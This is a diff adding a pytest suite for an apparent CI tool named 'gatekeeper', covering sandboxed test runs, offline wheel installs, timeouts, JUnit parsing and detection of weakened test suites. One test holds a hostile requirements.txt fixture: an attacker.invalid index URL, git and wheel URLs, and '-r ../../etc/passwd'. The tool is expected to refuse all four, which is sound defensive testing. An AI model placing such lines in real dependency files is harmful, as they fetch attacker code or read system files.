@@ -1,0 +1,131 @@
+"""The tests stage on real small projects, in the real sandbox, with real wheels."""
+
+import textwrap
+from pathlib import Path
+
+import pytest
+from factories import policy
+
+from gatekeeper.model import ChangedFile
+from gatekeeper.sandbox import Limits
+from gatekeeper.testrun import parse_junit, run_tests, weakened_suite
+from gatekeeper.wheelhouse import declared_requirements
+
+LIMITS = Limits(wall_seconds=120, cpu_seconds=120, memory_bytes=1024**3, processes=128)
+
+
+@pytest.fixture(scope="session")
+def cache(tmp_path_factory):
+    return tmp_path_factory.mktemp("gatekeeper-cache")  # one wheel download per session
+
+
+def project(root: Path, files: dict[str, str]) -> Path:
+    for name, text in files.items():
+        path = root / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(textwrap.dedent(text))
+    return root
+
+
+CALC = {
+    "calc.py": "def add(a, b):\n    return a + b\n",
+    "tests/test_calc.py": """
+        from calc import add
+
+        def test_add():
+            assert add(2, 2) == 4
+
+        def test_add_negative():
+            assert add(-1, 1) == 0
+    """,
+    "pyproject.toml": "[tool.pytest.ini_options]\npythonpath = ['.']\n",
+}
+
+
+def test_passing_project_goes_green(tmp_path, cache):
+    result = run_tests(project(tmp_path, CALC), policy(), cache, LIMITS)
+    assert result.status == "passed", result.summary
+    assert result.summary.startswith("2 passed, 0 failed, 0 errors, 0 skipped")
+
+
+def test_failing_test_becomes_a_finding_on_its_file_and_line(tmp_path, cache):
+    files = dict(CALC)
+    files["calc.py"] = "def add(a, b):\n    return a - b\n"
+    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
+    assert result.status == "failed"
+    assert [(f.path, f.start_line) for f in result.findings] == [("tests/test_calc.py", 5),
+                                                                 ("tests/test_calc.py", 8)]
+    assert "test_add" in result.findings[0].message and "assert 0 == 4" in result.findings[0].message
+
+
+def test_declared_dependency_is_installed_offline_from_wheels(tmp_path, cache):
+    files = {**CALC, "requirements.txt": "six==1.16.0  # pinned\n",
+             "tests/test_six.py": "import six\n\ndef test_six():\n    assert six.PY3\n"}
+    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
+    assert result.status == "passed", result.summary
+    assert result.summary.startswith("3 passed")
+
+
+def test_dependency_without_a_wheel_is_a_stage_error_naming_it(tmp_path, cache):
+    files = {**CALC, "requirements.txt": "pycrypto==2.6.1\n"}  # published as sdist only
+    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
+    assert result.status == "error"
+    assert "no wheel for pycrypto==2.6.1" in result.summary
+
+
+def test_requirement_options_and_urls_are_not_followed(tmp_path):
+    project(tmp_path, {"requirements.txt": textwrap.dedent("""
+        --index-url http://attacker.invalid/simple
+        -e git+https://attacker.invalid/x.git#egg=x
+        -r ../../etc/passwd
+        evil @ https://attacker.invalid/evil-1.0-py3-none-any.whl
+        six>=1.16
+    """)})
+    requirements, refused = declared_requirements(tmp_path)
+    assert requirements == ["six>=1.16"]
+    assert len(refused) == 4
+    assert any("direct URL" in r for r in refused) and any("'--index-url'" in r for r in refused)
+
+
+def test_no_tests_is_skipped_and_says_why(tmp_path, cache):
+    result = run_tests(project(tmp_path, {"calc.py": "x = 1\n"}), policy(), cache, LIMITS)
+    assert result.status == "skipped" and "no test files" in result.summary
+
+
+def test_a_suite_that_hangs_is_stopped_and_red(tmp_path, cache):
+    files = {**CALC, "tests/test_hang.py": "import time\n\ndef test_hang():\n    time.sleep(600)\n"}
+    limits = Limits(**{**LIMITS.__dict__, "wall_seconds": 15})
+    result = run_tests(project(tmp_path, files), policy(), cache, limits)
+    assert result.status == "error" and "wall-clock timeout" in result.summary
+
+
+def test_configured_command_that_is_not_pytest_is_judged_by_exit_code(tmp_path, cache):
+    files = {**CALC, "check.sh": "echo checking; exit 3\n"}
+    result = run_tests(project(tmp_path, files), policy("tests:\n  command: sh check.sh\n"),
+                       cache, LIMITS)
+    assert result.status == "failed" and "exited 3" in result.summary
+
+
+def test_junit_counts():
+    xml = b"""<testsuites><testsuite>
+      <testcase classname="t" name="a" file="t.py" line="1"/>
+      <testcase classname="t" name="b" file="t.py" line="4"><skipped/></testcase>
+      <testcase classname="t" name="c" file="t.py" line="8"><error message="boom">x</error></testcase>
+    </testsuite></testsuites>"""
+    counts, findings = parse_junit(xml)
+    assert counts == {"total": 3, "passed": 1, "failed": 0, "errors": 1, "skipped": 1}
+    assert findings[0].start_line == 9 and findings[0].rule == "test-error"
+
+
+def test_weakened_suite_signs_are_reported_as_warnings():
+    patch = "@@ -1,3 +1,5 @@\n import pytest\n+\n+@pytest.mark.skip(reason='flaky')\n def test_x():\n-    assert f()\n+    assert True\n"
+    findings = weakened_suite([
+        ChangedFile("tests/test_x.py", "modified", patch=patch),
+        ChangedFile("tests/conftest.py"),
+        ChangedFile("tests/test_old.py", "removed"),
+    ])
+    rules = sorted((f.rule, f.path, f.start_line) for f in findings)
+    assert rules == [("weakened-suite/test-config-changed", "tests/conftest.py", 1),
+                     ("weakened-suite/test-removed", "tests/test_old.py", 1),
+                     ("weakened-suite/test-skip-added", "tests/test_x.py", 3)]
+    assert not any(f.blocking for f in findings)
